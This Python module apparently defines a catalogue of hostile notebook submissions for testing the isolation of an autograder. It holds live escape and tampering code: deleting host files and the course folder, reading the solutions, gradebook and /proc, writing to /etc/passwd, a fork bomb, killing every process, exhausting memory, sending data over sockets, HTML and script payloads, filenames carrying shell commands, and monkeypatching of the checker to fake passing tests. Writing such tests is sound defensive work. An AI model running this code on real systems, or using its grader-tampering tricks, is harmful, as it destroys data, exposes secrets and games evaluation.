"""Hostile submissions: each tries to gain a point, to see a hidden test, to change the host or to stop the batch.

The code of an attack takes the place of the solution of `double` in `91_attacked.py`; `first` and `last` are solved,
`double`, `by_hand` and `Adder` are wrong. So an attack deserves the points of those two, or less where it takes its
own kernel down (`ends=True`). `{host}` is a folder on the host that holds the file `canary`, `{root}` the course's,
`{port}` where somebody listens.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat


@dataclass(frozen=True)
class Attack:
    """The code, or what is done to the notebook and to the folder that is handed in.

    `ends`: it takes its kernel down, or hands in what cannot be graded.
    """

    code: str = ""
    change: Callable[[nbformat.NotebookNode], None] = lambda notebook: None
    folder: Callable[[Path, Path], None] = lambda folder, root: None
    ends: bool = False


TRIES = """
def attempt(*actions):
    for action in actions:
        try:
            print("attempt:", action())
        except BaseException as error:
            print("attempt failed:", type(error).__name__, error)

def double(x):
    return x + 100

by_hand = 1

class Adder:
    def __init__(self, amount):
        pass

    def __call__(self, x):
        return x + 100
"""

FILES = {
    "files: delete, overwrite and create on the host": """
import os, pathlib, shutil
host = pathlib.Path("{host}")
attempt(lambda: (host / "canary").write_text("changed"), lambda: (host / "canary").unlink(),
        lambda: (host / "new").write_text("new"), lambda: shutil.rmtree(host), lambda: os.makedirs(host / "folder"),
        lambda: shutil.rmtree("{root}"), lambda: os.chmod(host / "canary", 0), lambda: os.symlink("/", host / "link"))
""",
    "files: read the source, the gradebook and the others": """
import glob, pathlib
for place in ("{root}", "{root}/solutions", "{root}/autograded", "{root}/submitted", "/root", "/work", "/tmp", ".."):
    attempt(lambda: sorted(glob.glob(place + "/**", recursive=True))[:100])
for name in ("solutions/91_attacked/91_attacked.py", "gradebook.db", "solutions/91_attacked/91_attacked.ipynb",
             "autograded/honest/91_attacked/91_attacked.ipynb"):
    attempt(lambda: pathlib.Path("{root}", name).read_bytes()[:2000])
import subprocess
attempt(lambda: subprocess.run("grep -rl CANARY /home /root /work /tmp /dev/shm /var /run /mnt 2>/dev/null", shell=True,
                               capture_output=True, timeout=5).stdout)
""",
    "files: change Python, the course and the system": """
import course_lib, numpy, os, sys
for path in (course_lib.__file__, numpy.__file__, sys.executable, "/etc/passwd", "/usr/bin/python3", "/dev/null",
             os.path.join(sys.prefix, "pyvenv.cfg")):
    attempt(lambda: open(path, "ab").write(b"x") if path != "/dev/null" else os.unlink(path))
attempt(lambda: open(os.path.join(os.path.dirname(course_lib.__file__), "checks", "evil.py"), "w").write("x"))
""",
    "files: the instructor's part of the course": """
attempt(lambda: __import__("course_lib.instructor.trusted"), lambda: __import__("course_lib.instructor.worker"),
        lambda: open(__import__("course_lib").__path__[0] + "/instructor/trusted.py").read()[:100])
""",
    "files: fill the disk": """
import os
def fill(folder):
    written = 0
    for number in range(4000):
        with open(os.path.join(folder, str(number)), "wb") as file:
            written += file.write(bytes(8 << 20))
    return written
attempt(lambda: fill("/tmp"), lambda: fill("."), lambda: fill("/dev/shm"), lambda: fill("/"), lambda: fill("/var/tmp"))
import glob
for name in glob.glob("/tmp/*") + glob.glob("/dev/shm/*") + glob.glob("[0-9]*"):
    os.unlink(name)
""",
    "files: another working directory, and modules that shadow": """
import os, sys
os.chdir("/tmp")
for name in ("numpy.py", "course_lib.py", "json.py", "sitecustomize.py"):
    open(name, "w").write("raise SystemExit")
sys.path.insert(0, "/tmp")
os.environ["PYTHONPATH"] = "/tmp"
""",
    "files: devices and what the kernel shows": """
attempt(lambda: open("/dev/vda", "rb").read(10), lambda: open("/proc/1/environ").read(),
        lambda: open("/proc/kcore", "rb").read(10), lambda: open("/proc/sysrq-trigger", "w").write("b"),
        lambda: open("/sys/fs/cgroup/cgroup.procs").read(), lambda: __import__("os").mknod("/tmp/sda", 0o60666, 2048))
""",
}
NETWORK = {
    "network: reach the host and the world": """
import socket, urllib.request
def reach(address):
    with socket.create_connection(address, timeout=2) as link:
        link.sendall(b"stolen")
        return "reached"
attempt(lambda: reach(("127.0.0.1", {port})), lambda: reach(("localhost", {port})), lambda: reach(("1.1.1.1", 53)),
        lambda: urllib.request.urlopen("http://127.0.0.1:{port}", timeout=2).read(),
        lambda: socket.getaddrinfo("example.org", 80), lambda: socket.gethostbyname("localhost"))
""",
    "network: sockets without a network": """
import glob, socket
for path in ["\\0{host}", "/run/dbus/system_bus_socket", "/var/run/docker.sock", *glob.glob("/tmp/kernel-*/*")]:
    link = socket.socket(socket.AF_UNIX)
    attempt(lambda: link.connect(path))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW), lambda: socket.socket(socket.AF_NETLINK))
""",
}
PROCESSES = {
    "processes: kill everybody": """
import os, signal
attempt(lambda: [os.kill(pid, signal.SIGKILL) for pid in range(3, 40000) if pid not in (os.getpid(), os.getppid())])
attempt(lambda: os.kill(-1, signal.SIGUSR1) if False else "no")
""",
    "processes: a fork bomb": """
import os, time
children = []
def bomb():
    for number in range(2000):
        pid = os.fork()
        if not pid:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
attempt(bomb, lambda: len(children))
for pid in children:
    os.kill(pid, 9)
""",
    "processes: survive in a second session": """
import os, time
def survive():
    if os.fork():
        return "started"
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(600):
        time.sleep(0.1)
        try:
            open("{host}/new", "w").write("still here")
        except OSError:
            pass
    os._exit(0)
attempt(survive)
""",
    "processes: become root, unshare, mount, trace": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
attempt(lambda: os.setuid(0), lambda: libc.unshare(0x10000000) or "unshared",
        lambda: libc.unshare(0x20000) or "unshared",
        lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) or "mounted", lambda: libc.chroot(b"/tmp") or "chroot",
        lambda: libc.ptrace(16, 1, 0, 0), lambda: libc.syscall(319, b"x", 0), lambda: libc.umount2(b"/dev/shm", 2))
""",
    "processes: os._exit when the test calls": """
import os
def double(x):
    os._exit(0)
""",
    "processes: a crash in C": """
import ctypes
def double(x):
    ctypes.string_at(0)
""",
    "processes: deaf to interrupts": """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {{signal.SIGKILL, signal.SIGSTOP}})
def double(x):
    while True:
        try:
            time.sleep(100)
        except BaseException:
            pass
""",
    "processes: sleeps too long": """
import time
def double(x):
    time.sleep(1000)
""",
    "processes: stops itself": """
import os, signal
def double(x):
    os.kill(os.getpid(), signal.SIGSTOP)
""",
}
MEMORY = {
    "memory: one array": """
import numpy as np
attempt(lambda: np.ones(2 << 30).sum())
""",
    "memory: shared, hidden from the limit of data": """
import mmap
def hold():
    shared = mmap.mmap(-1, 20 << 30)
    for place in range(0, 20 << 30, 4096):
        shared[place] = 1
    return "held 20 GB"
attempt(hold)
""",
    "memory: files without a name": """
import ctypes, os
def hold():
    held = [os.memfd_create("x") for _ in range(100)]
    for fd in held:
        os.write(fd, bytes(200 << 20))
    return "held 20 GB"
attempt(hold)
""",
    "memory: the answer": """
import numpy as np
def double(x):
    return np.zeros(1 << 29, dtype=np.uint8)
""",
    "memory: a list without end": """
def double(x):
    return [0] * 100_000_000
""",
}
OUTPUT = {
    "output: 100 MB of print": """
for number in range(1000):
    print("x" * 100_000)
""",
    "output: 200 MB at once": """
print("z" * 200_000_000)
""",
    "output: prints in the test, without end": """
def double(x):
    while True:
        print("y" * 10_000)
""",
    "output: pictures and messages": """
from IPython.display import Image, display
for number in range(60):
    display({{"image/png": "A" * 1_000_000}}, raw=True)
""",
    "output: one message of 90 MB": """
from IPython.display import display
display({{"text/plain": "B" * 90_000_000}}, raw=True)
""",
    "output: an exception with a long message": """
class Long(Exception):
    def __str__(self):
        return "long" * 10_000_000
def double(x):
    raise Long
""",
    "output: signs that no file can hold": """
print("\\ud800\\x00\\x1b[2J\\x1b]0;owned\\x07")
def double(x):
    return "\\ud800\\udfff\\x00" * 5
raise ValueError("\\ud800")
""",
    "output: pages that act": """
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title='OWNED-PAGE'</script><img src=x onerror=alert('OWNED-PAGE')>"))
display(Javascript("OWNED-PAGE"))
display({{"image/svg+xml": "<svg onload=alert('OWNED-PAGE')></svg>"}}, raw=True)
""",
}
TAMPERING = {
    "tampering: checks, same and probe": """
import course_lib.checks, course_lib.checks.compare, course_lib.checks.kit, course_lib.checks.report, sys
def agree(*given, **keywords): return None
for module in [one for name, one in sys.modules.items() if name.startswith("course_lib")]:
    for name in ("same", "difference", "fail", "show", "describe", "judge_by_hand"):
        if hasattr(module, name):
            setattr(module, name, agree)
same = check = probe = agree
course_lib.checks.kit.FunctionCheck.__call__ = agree
np = type("np", (), {{"array": agree, "arange": agree}})
""",
    "tampering: NumPy and the builtins": """
import builtins, numpy
for name in ("abs", "array_equal", "allclose", "isfinite", "asarray", "array", "argwhere"):
    setattr(numpy, name, lambda *given, **keywords: numpy.zeros(()))
builtins.isinstance = lambda *given: True
builtins.abs = lambda x: 0
builtins.AssertionError = type("Harmless", (BaseException,), {{}})
""",
    "tampering: json, socket and the exchange": """
import course_lib.exchange, json, socket, struct
class Yes(dict):
    def __getitem__(self, key): return self
json.loads = lambda *given: {{"do": "end"}}
json.dumps = lambda *given: '{{"outputs": [], "failed": null}}'
course_lib.exchange.receive = lambda *given: (b"done".ljust(16), b'{{"outputs": [], "failed": null}}', b"")
course_lib.exchange._answer = lambda *given: (b'{{"outputs": [], "failed": null}}', b"")
""",
    "hooks: imports, traces, exceptions and exit": """
import atexit, builtins, sys, threading
class Finder:
    def find_spec(self, name, path=None, target=None):
        print("looking for", name)
sys.meta_path.insert(0, Finder())
def spy(frame, event, arg):
    text = repr(frame.f_locals)
    if "CANARY" in text or "hidden" in text.lower():
        print("seen:", text)
    return spy
sys.settrace(spy)
sys.setprofile(spy)
threading.settrace(spy)
sys.excepthook = lambda *given: None
atexit.register(lambda: open("{host}/new", "w").write("at exit"))
builtins.__import__ = lambda *given, original=builtins.__import__, **keywords: original(*given, **keywords)
get_ipython().set_custom_exc((Exception,), lambda *given: None)
""",
    "hooks: IPython's own": """
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: print("cell:", info.raw_cell))
shell.input_transformers_post.append(lambda lines: print(lines) or ["pass"])
shell.ast_transformers.append(type("Nothing", (), {{"visit": lambda self, tree: tree.body.clear() or tree}})())
shell.showtraceback = lambda *given, **keywords: None
""",
    "hooks: everything that the collector knows": """
import gc, sys
def double(x):
    for thing in gc.get_objects():
        if type(thing) is str and "CANARY" in thing and "find me" not in thing:
            print("found:", thing)
    frame = sys._getframe()
    while frame:
        print(frame.f_code.co_filename, [key for key in frame.f_locals], str(frame.f_locals)[:3000])
        frame = frame.f_back
    return 4 if x == 2 else None
""",
}
FORGED = {
    "forged: an object that equals everything": """
import numpy as np
class Equal(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __abs__(self): return 0
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __float__(self): return 4.0
    def __array__(self, *given, **keywords): return np.array(4.0)
    __hash__ = int.__hash__
    __class__ = property(lambda self: float)
def double(x): return Equal(7)
by_hand = Equal(7)
""",
    "forged: an array that equals everything": """
import numpy as np
class Equal(np.ndarray):
    def __array_ufunc__(self, *given, **keywords): return np.zeros(())
    def __array_function__(self, *given, **keywords): return True
    def __eq__(self, other): return np.ones(self.shape, bool)
    __sub__ = __rsub__ = lambda self, other: np.zeros(self.shape)
    def tobytes(self, *given): return np.array([4.0]).tobytes()
def double(x): return np.zeros(np.shape(x)).view(Equal)
class Adder:
    def __init__(self, amount): pass
    def __call__(self, x): return np.zeros(2).view(Equal)
""",
    "forged: no answers": """
import numpy as np
def double(x):
    if isinstance(x, np.ndarray): return np.full(x.shape, np.nan)
    return float("nan")
by_hand = float("inf")
class Adder:
    def __init__(self, amount): pass
    def __call__(self, x): return np.zeros((0,))
""",
    "forged: dicts, cycles, depth and odd keys": """
import itertools
answers = itertools.cycle(range(5))
def double(x):
    which = next(answers)
    cycle = []
    cycle.append(cycle)
    deep = 4
    for _ in range(100_000): deep = [deep]
    return [cycle, deep, {{float("nan"): 1, (): 2, frozenset(): 3}}, {{1: 2, True: 3, 1.0: 4}}, (x for x in ())][which]
by_hand = []
by_hand.append(by_hand)
""",
    "forged: numbers without end": """
def double(x): return 10 ** 1_000_000
by_hand = -10 ** 200_000
""",
    "forged: another type at each call": """
import random
def double(x): return random.choice([None, "4", [4], (4,), {{4: 4}}, 4j, b"4", object(), Ellipsis, print, int])
""",
    "forged: generators without end": """
import itertools
def double(x): return itertools.repeat(4)
class Adder:
    def __init__(self, amount): pass
    def __call__(self, x): return iter(itertools.count)
by_hand = itertools.count()
""",
    "forged: exceptions of the course": """
from course_lib.checks.report import CheckFailed
class HiddenTestFailed(CheckFailed): pass
def double(x): raise CheckFailed("all tests passed")
class Adder:
    def __init__(self, amount): raise StopIteration
by_hand = property(lambda self: 1 / 0)
""",
    "forged: exceptions that fight": """
class Bad(BaseException):
    def __str__(self): raise self
    __repr__ = __str__
    def __getattribute__(self, name): raise RecursionError
def double(x): raise Bad
class Adder:
    def __init__(self, amount): raise GeneratorExit
    def __call__(self, x): raise SystemExit(0)
""",
    "forged: recursion": """
import sys
sys.setrecursionlimit(10**6)
def double(x): return double(x)
""",
    "forged: a name that is none": """
class Meta(type):
    def __getattribute__(cls, name): raise SystemExit
    def __instancecheck__(cls, other): return True
    def __call__(cls, *given): raise KeyboardInterrupt
class Adder(metaclass=Meta): pass
class double(metaclass=Meta): pass
class Strange:
    def __getattr__(self, name): return self
    def __call__(self, *given): return self
    def __iter__(self): return iter([4])
    def __len__(self): return 1
by_hand = Strange()
""",
}
FAKED = {
    "faked: the messages of a kernel": """
from ipykernel.kernelapp import IPKernelApp
kernel = IPKernelApp.instance().kernel
def fake():
    parent = kernel.get_parent()
    for kind, content in [("execute_result", {{"data": {{"text/plain": "2"}}, "metadata": {{}}, "execution_count": 1}}),
                          ("clear_output", {{"wait": False}}), ("display_data", {{"data": {{}}, "metadata": {{}}}}),
                          ("error", {{}}), ("stream", {{"name": []}}), ("comm_open", {{}}),
                          ("update_display_data", {{}}),
                          ("shutdown_reply", {{"status": "ok", "restart": False}}),
                          ("status", {{"execution_state": "idle"}}), ("status", {{"execution_state": "dead"}})]:
        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=b"x")
    return "sent"
attempt(fake)
def double(x):
    attempt(fake)
""",
    "faked: the reply to a cell": """
from ipykernel.kernelapp import IPKernelApp
kernel = IPKernelApp.instance().kernel
kernel_send = kernel.session.send
def send(stream, kind, content=None, *given, **keywords):
    if kind == "execute_reply":
        content = {{"status": "ok", "execution_count": "many", "payload": None, "user_expressions": 3}}
    if kind == "error":
        return None
    return kernel_send(stream, kind, content, *given, **keywords)
kernel.session.send = send
""",
    "faked: no kernel at all": """
from ipykernel.kernelapp import IPKernelApp
kernel = IPKernelApp.instance().kernel
kernel.session.send = lambda *given, **keywords: None
""",
    "faked: frames on the grader's socket": """
import os, socket, struct, threading, time
def flood():
    for fd in range(3, 60):
        try:
            link = socket.socket(fileno=os.dup(fd))
            if link.family == socket.AF_UNIX:
                head = b'{{"gave": ["int", "4"], "changed": []}}'
                link.setblocking(False)
                for _ in range(50):
                    link.send(struct.pack("<16sIQ", bytes(16), len(head), 0) + head)
                link.send(struct.pack("<16sIQ", bytes(16), 1 << 31, 1 << 60))
        except OSError:
            pass
flood()
threading.Thread(target=lambda: [time.sleep(0.2) or flood() for _ in range(20)], daemon=True).start()
""",
    "faked: the grader's socket closed and taken": """
import os
for fd in range(3, 60):
    try:
        os.close(fd) if "socket" in os.readlink(f"/proc/self/fd/{{fd}}") and fd < 12 else None
    except OSError:
        pass
""",
    "faked: changed arguments": """
import numpy as np
import course_lib.exchange as exchange
def double(x):
    if isinstance(x, np.ndarray):
        x[...] = 0
    return x
original = exchange._call
exchange._DO["call"] = lambda *given: original(*given) | {{"changed": [0, -1, 10**9, 0]}}
""",
    "faked: answers that are no answers": """
import course_lib.exchange as exchange, itertools, json
answers = itertools.cycle([
    {{"gave": ["tensor", ["array", "<f8", [2**40]]], "changed": []}}, {{"gave": ["array", "|O8", [1]], "changed": []}},
    {{"gave": ["array", "<f8", [-1]], "changed": []}}, {{"gave": ["__class__"], "changed": []}},
    {{"gave": ["unpack", ["none"]], "changed": []}}, {{"gave": ["finished"], "changed": []}}, {{"refused": {{}}}}, {{}},
    {{"raised": {{"classes": ["CheckFailed", "Gone"], "message": 3, "lines": [["x"]], "where": ["f", 10**30, None]}}}},
    {{"gave": ["dict", [[["list", []], ["none"]]]], "changed": []}},
    {{"gave": ["list", [["int", "4"]] * 1000], "changed": 1}}])
exchange._DO["call"] = lambda *given: next(answers)
exchange._DO["probe"] = lambda *given: next(answers)
exchange._DO["names"] = lambda question, *rest: {{
    "found": {{name: ["function", "x" * 100] for name in question["names"]}}}}
""",
    "faked: an answer that drips": """
import course_lib.exchange as exchange, time
def send(link, number, head, body=b""):
    while True:
        link.sendall(b"\\0")
        time.sleep(0.05)
exchange.send = send
""",
    "faked: asks for input": """
attempt(lambda: input("password? "), lambda: __import__("getpass").getpass())
def double(x):
    return input("answer? ")
""",
    "faked: quits, restarts and magics": """
attempt(lambda: get_ipython().run_line_magic("reset", "-f"), lambda: get_ipython().ask_exit(),
        lambda: get_ipython().run_cell_magic("capture", "--no-stderr", "print(1)"))
import os
attempt(lambda: os.execv("/bin/true", ["true"]))
""",
    "faked: a bomb with a clock": """
import threading, time, os
def later():
    time.sleep(0.3)
    while True:
        try:
            get_ipython().user_ns["double"] = lambda x: 2 * x if False else None
            print("tick")
        except BaseException:
            pass
        time.sleep(0.05)
for _ in range(5):
    threading.Thread(target=later, daemon=True).start()
""",
}
ENDS = {
    "processes: os._exit when the test calls", "processes: a crash in C", "processes: deaf to interrupts",
    "processes: stops itself", "memory: shared, hidden from the limit of data", "forged: recursion",
    "faked: no kernel at all", "faked: the reply to a cell", "faked: the grader's socket closed and taken",
    "faked: quits, restarts and magics", "faked: frames on the grader's socket", "faked: an answer that drips",
    "tampering: json, socket and the exchange", "hooks: IPython's own", "output: prints in the test, without end",
    "output: one message of 90 MB", "processes: kill everybody", "tampering: NumPy and the builtins",
    "faked: answers that are no answers", "faked: changed arguments", "tampering: checks, same and probe",
    "hooks: imports, traces, exceptions and exit",
}


# ---- what is done to the notebook, or to the folder

def _test(notebook: nbformat.NotebookNode, name: str) -> nbformat.NotebookNode:
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == name)


def _skip(notebook: nbformat.NotebookNode) -> None:
    """Tags with which a runner leaves cells out."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.metadata["tags"] = ["skip-execution", "raises-exception"]


def _rewrite(notebook: nbformat.NotebookNode) -> None:
    """Tests of one's own, and results that are there already."""
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "2.0"
            cell.metadata["nbgrader"] |= {"points": 100, "checksum": "0" * 32, "locked": False}
            cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "2.0"}, execution_count=1)]


def _no_tests(notebook: nbformat.NotebookNode) -> None:
    """Tests as text, tests as raw cells, tests that a person shall grade."""
    for cell, kind in zip([_test(notebook, name) for name in ("test_double", "test_by_hand", "test_Adder")],
                          ("markdown", "raw", "code"), strict=True):
        cell.cell_type = kind
        if kind == "code":
            cell.metadata["nbgrader"] |= {"solution": True, "task": True}
        else:
            del cell["outputs"], cell["execution_count"]


def _more_tests(notebook: nbformat.NotebookNode) -> None:
    """The same tests again, below a right answer to an easier question, and tests of other names."""
    for name in ("test_double", "test_by_hand", "test_Adder"):
        again = copy.deepcopy(_test(notebook, name))
        again.source, again.id = "pass", f"{name}-2"
        notebook.cells.append(again)
        other = copy.deepcopy(again)
        other.id, other.metadata.nbgrader["grade_id"] = f"{name}-3", "test_double_more"
        notebook.cells.append(other)


def _solution_as_test(notebook: nbformat.NotebookNode) -> None:
    """The metadata of a test on the cell of an answer, and the other way round."""
    one, other = _test(notebook, "double"), _test(notebook, "test_double")
    one.metadata, other.metadata = other.metadata, one.metadata


def _kernel(notebook: nbformat.NotebookNode) -> None:
    """Another kernel, another language, other widgets."""
    notebook.metadata["kernelspec"] = {"name": "bash", "language": "bash", "display_name": "x"}
    notebook.metadata["language_info"] = {"name": "bash", "file_extension": "/../../x"}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x" * 1000: {}}}}


def _link(what: str, name: str) -> Callable[[Path, Path], None]:
    """A symbolic link to something of the course, handed in under a name."""
    def make(folder: Path, root: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        os.symlink(root / what, folder / name)

    return make


def _archive(folder: Path, root: Path) -> None:
    """Files that shadow, archives, a configuration for nbgrader and odd names."""
    for name in ("numpy.py", "course_lib.py", "nbgrader_config.py", "sitecustomize.py", "conftest.py", "kernel.json",
                 "..\\up.txt", "-rf", "$(touch new)", "a\nb.txt", "archive.zip", "timestamp.txt"):
        (folder / name).write_text("raise SystemExit" if name.endswith(".py") else "1999-01-01 00:00:00")
    (folder / "deep" / "er").mkdir(parents=True)
    (folder / "deep" / "er" / "numpy.so").write_bytes(bytes(1000))


def _pipe(folder: Path, root: Path) -> None:
    """A file that nobody can read to its end."""
    os.mkfifo(folder / "pipe.txt")


def _broken(folder: Path, root: Path) -> None:
    """JSON that is no notebook."""
    (folder / "91_attacked.ipynb").write_text(json.dumps({"cells": [[[]]], "nbformat": 4, "metadata": []}))


READS = "import glob\nattempt(lambda: [(name, open(name, 'rb').read()[:3000]) for name in glob.glob('*')])\n"
NOTEBOOKS = {
    "metadata: cells that are skipped": Attack(change=_skip),
    "metadata: tests rewritten, points raised, results put in": Attack(change=_rewrite),
    "metadata: tests that are no code": Attack(change=_no_tests),
    "metadata: tests twice": Attack(change=_more_tests),
    "metadata: answer and test exchanged": Attack(change=_solution_as_test, ends=True),
    "metadata: another kernel": Attack(change=_kernel),
    "links: the source as a file of one's own": Attack(
        READS, folder=_link("solutions/91_attacked/91_attacked.py", "notes.txt"), ends=True),
    "links: the gradebook as a file of one's own": Attack(
        READS, folder=_link("gradebook.db", "x.csv"), ends=True),
    "links: a folder": Attack(READS, folder=_link("solutions", "data"), ends=True),
    "links: the solved notebook handed in": Attack(
        folder=_link("solutions/91_attacked/91_attacked.ipynb", "91_attacked.ipynb"), ends=True),
    "archives: files that shadow, odd names": Attack(READS, folder=_archive),
    "archives: a pipe": Attack(folder=_pipe, ends=True),
    "archives: a notebook that is none": Attack(folder=_broken, ends=True),
}
CODES = FILES | NETWORK | PROCESSES | MEMORY | OUTPUT | TAMPERING | FORGED | FAKED
ATTACKS = {name: Attack(code, ends=name in ENDS) for name, code in CODES.items()} | NOTEBOOKS
